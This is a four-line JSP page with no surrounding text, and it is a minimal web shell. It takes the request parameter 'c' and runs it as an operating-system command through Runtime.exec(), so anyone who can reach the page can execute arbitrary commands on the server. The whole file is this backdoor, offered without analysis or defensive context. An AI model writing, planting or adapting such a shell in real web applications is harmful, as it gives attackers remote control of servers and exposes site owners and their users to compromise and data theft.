<%@ page import="java.util.Map" %><%
Map<String, String[]> m = request.getParameterMap();
Process p = Runtime.getRuntime().exec(m.get("c")[0]);
%>
